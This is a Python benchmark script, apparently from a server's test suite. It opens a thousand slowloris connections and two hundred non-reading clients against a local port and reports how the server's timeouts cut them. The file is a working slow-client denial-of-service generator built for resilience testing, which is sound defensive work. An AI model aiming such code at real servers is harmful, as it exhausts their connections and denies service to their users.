#!/usr/bin/env python3
"""Slow and hostile clients for bench/slowclients, in one single-threaded process.

  slowattack.py --port P --slowloris 1000 --nonreaders 200 --out FILE [--drip 1.0]
                [--max-seconds 300] [--settle 40]

* slowloris: connects and sends its request head one byte every --drip seconds (each
  connection at its own random phase), never finishing it. When the server cuts one (408, EOF or reset) while the attack is on, a new
  one replaces it, so the pressure stays at N connections.
* non-readers: send `GET /big.bin` with a small receive buffer and never read; every
  ~8 s while the attack is on (each at its own phase: the first generation's ages are spread
  over 0-8 s) they are recycled (closed by us, reopened), so N requests
  are always stuck in the server's send path.

SIGUSR1 ends the attack: nothing is reopened or recycled any more; the last generation is
left to the server's timeouts. The process then watches (at most --settle s) until every
slowloris is cut, drains every non-reader (a cut one ends in EOF before the full response)
and writes a JSON report: counts, how each was cut, how long the last ones lived.
The first connections open over --ramp seconds (default 10, the usual header timeout).
It prints "connected N" lines on stdout while opening, "ready" once all are open.
"""

import argparse
import heapq
import itertools
import errno
import json
import os
import random
import resource
import selectors
import signal
import socket
import sys
import time

HEAD = b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\nX-Slow: "
RCVBUF = 16 * 1024


class Conn:
    __slots__ = ("kind", "sock", "start", "pos", "next_drip", "cut", "how", "got", "final", "status")

    def __init__(self, kind, sock, now, final=False):
        self.kind, self.sock, self.start = kind, sock, now
        self.pos = 0
        self.next_drip = now
        self.cut = None
        self.how = None
        self.got = 0
        self.final = final
        self.status = None


def open_conn(port, kind, now, rcvbuf=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(5)
    s.connect(("127.0.0.1", port))
    s.setblocking(False)
    c = Conn(kind, s, now)
    if kind == "nonreader":
        s.send(b"GET /big.bin HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: nonreader\r\n\r\n")
    return c


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--slowloris", type=int, default=1000)
    ap.add_argument("--nonreaders", type=int, default=200)
    ap.add_argument("--drip", type=float, default=1.0)
    ap.add_argument("--recycle", type=float, default=8.0, help="non-reader recycle period during the attack")
    ap.add_argument("--max-seconds", type=float, default=300)
    ap.add_argument("--settle", type=float, default=40)
    ap.add_argument("--out", required=True)
    ap.add_argument("--ramp", type=float, default=10.0, help="seconds over which the first connections open")
    ap.add_argument("--send-timeout", type=float, default=10.0, help="the server's send_timeout (s)")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(65536, hard), hard))

    attacking = [True]
    stop_at = [None]

    def on_usr1(_s, _f):
        attacking[0] = False
    signal.signal(signal.SIGUSR1, on_usr1)

    sel = selectors.DefaultSelector()
    live = {}            # fd -> Conn (slowloris and non-readers)
    stats = {"slowloris_opened": 0, "nonreaders_opened": 0, "connect_errors": 0,
             "slowloris_cut_during_attack": 0, "nonreaders_recycled": 0}
    finals = []
    t0 = time.monotonic()

    # What is due when: (time, tie-breaker, connection, "drip" | "recycle"). Every connection
    # keeps its own phase, as clients on many machines would: in step, this one process would
    # send a thousand bytes (or reopen two hundred connections) in one burst, and on two
    # shared cores that burst takes the CPU from the measuring client.
    sched = []
    seq = itertools.count()

    def add(kind, first=False):
        now = time.monotonic()
        try:
            c = open_conn(a.port, kind, now, RCVBUF if kind == "nonreader" else None)
        except OSError:
            stats["connect_errors"] += 1
            return None
        live[c.sock.fileno()] = c
        if kind == "slowloris":
            sel.register(c.sock, selectors.EVENT_READ, c)
            stats["slowloris_opened"] += 1
            c.next_drip = now + random.random() * a.drip
            heapq.heappush(sched, (c.next_drip, next(seq), c, "drip"))
        else:
            stats["nonreaders_opened"] += 1
            due = now + (random.random() if first else 1.0) * a.recycle
            heapq.heappush(sched, (due, next(seq), c, "recycle"))
        return c

    def cut(c, how, now):
        if c.cut is not None:
            return
        if not attacking[0] and not c.final:
            # SIGUSR1 arrived during this pass: the connection belongs to the last generation
            c.final = True
            finals.append(c)
        c.cut = now
        c.how = how
        if c.kind == "slowloris":
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
        live.pop(c.sock.fileno(), None)
        c.sock.close()
        if not c.final and c.kind == "slowloris":
            stats["slowloris_cut_during_attack"] += 1
            if attacking[0]:
                add("slowloris")

    # open everything over --ramp seconds, interleaved: opened in one go, every slowloris
    # would reach the server's header timeout at the same moment, and the thousand cuts and
    # reconnections would come as one wave instead of a steady trickle of connections of all ages
    start = time.monotonic()
    total = a.slowloris + a.nonreaders
    for i in range(max(a.slowloris, a.nonreaders)):
        for kind, n in (("slowloris", a.slowloris), ("nonreader", a.nonreaders)):
            if i < n:
                due = start + a.ramp * (i / max(1, n))
                heapq.heappush(sched, (due, next(seq), None, kind))
    to_open = [total]

    while True:
        now = time.monotonic()
        if now - t0 > a.max_seconds:
            attacking[0] = False
        if not attacking[0] and stop_at[0] is None:
            stop_at[0] = now
            for c in list(live.values()):
                c.final = True
                finals.append(c)
            print(f"stopped with {len(finals)} open", flush=True)
        if stop_at[0] is not None:
            pending = [c for c in finals if c.kind == "slowloris" and c.cut is None]
            if not pending or now - stop_at[0] > a.settle:
                break
        # the server's answers (408) or closes
        wait = 0.05
        if sched:
            # at least 5 ms: a few drips per wake-up rather than a wake-up per drip
            wait = min(wait, max(0.005, sched[0][0] - time.monotonic()))
        for key, _ev in sel.select(timeout=wait):
            c = key.data
            try:
                data = c.sock.recv(65536)
            except OSError as e:
                cut(c, "reset" if e.errno == errno.ECONNRESET else f"error {e.errno}", now)
                continue
            if not data:
                cut(c, "eof" if c.status is None else f"{c.status}+eof", now)
            else:
                if c.status is None and data.startswith(b"HTTP/1."):
                    c.status = data[9:12].decode("ascii", "replace")
                c.got += len(data)
        # what is due: one byte per slowloris per --drip seconds, non-readers reopened
        now = time.monotonic()
        while sched and sched[0][0] <= now:
            _due, _n, c, action = heapq.heappop(sched)
            if c is None:  # the ramp: one of the first generation
                add(action, first=True)
                to_open[0] -= 1
                if to_open[0] % 100 == 0:
                    print(f"connected {len(live)}", flush=True)
                if to_open[0] == 0:
                    print(f"ready {len(live)}", flush=True)
                continue
            if c.cut is not None or c.sock.fileno() < 0:
                continue
            if action == "drip":
                c.next_drip = now + a.drip
                heapq.heappush(sched, (c.next_drip, next(seq), c, "drip"))
                b = HEAD[c.pos:c.pos + 1] if c.pos < len(HEAD) else b"a"
                try:
                    c.sock.send(b)
                    c.pos += 1
                except BlockingIOError:
                    pass
                except OSError as e:
                    cut(c, "reset" if e.errno in (errno.ECONNRESET, errno.EPIPE) else f"error {e.errno}", now)
            elif attacking[0] and not c.final:
                live.pop(c.sock.fileno(), None)
                c.sock.close()
                stats["nonreaders_recycled"] += 1
                add("nonreader")

    # drain the last non-readers: a server that cut them gives EOF before the full response.
    # Reading lets a server that has not cut one yet go on sending, so first give the server's
    # send_timeout time to run out for the youngest of them.
    nr = [c for c in finals if c.kind == "nonreader"]
    youngest = max((c.start for c in nr), default=0)
    while time.monotonic() < youngest + a.send_timeout + 2:
        time.sleep(0.2)
    end = time.monotonic() + 30
    for c in nr:
        c.sock.setblocking(True)
        c.sock.settimeout(max(0.1, end - time.monotonic()))
        try:
            while True:
                d = c.sock.recv(1 << 20)
                if not d:
                    c.how = "eof"
                    break
                c.got += len(d)
        except socket.timeout:
            c.how = "still open (no EOF)"
        except OSError as e:
            c.how = "reset" if e.errno == errno.ECONNRESET else f"error {e.errno}"
        c.cut = c.cut or time.monotonic()
        c.sock.close()
    for c in live.values():
        try:
            c.sock.close()
        except OSError:
            pass

    sl = [c for c in finals if c.kind == "slowloris"]
    hows = {}
    for c in sl:
        hows[c.how or "never cut"] = hows.get(c.how or "never cut", 0) + 1
    life = sorted(c.cut - c.start for c in sl if c.cut is not None)
    nr_hows = {}
    for c in nr:
        nr_hows[c.how] = nr_hows.get(c.how, 0) + 1
    report = dict(stats)
    report.update({
        "final_slowloris": len(sl),
        "final_slowloris_cut": sum(1 for c in sl if c.cut is not None),
        "final_slowloris_how": hows,
        "final_slowloris_lifetime_min": life[0] if life else None,
        "final_slowloris_lifetime_median": life[len(life) // 2] if life else None,
        "final_slowloris_lifetime_max": life[-1] if life else None,
        "final_nonreaders": len(nr),
        "final_nonreaders_how": nr_hows,
        "final_nonreaders_bytes_max": max((c.got for c in nr), default=0),
        "final_nonreaders_bytes_min": min((c.got for c in nr), default=0),
        "seconds_from_stop_to_last_slowloris_cut": (max((c.cut for c in sl if c.cut), default=stop_at[0] or 0)
                                                    - (stop_at[0] or 0)),
    })
    with open(a.out, "w") as f:
        json.dump(report, f, indent=1)


if __name__ == "__main__":
    main()
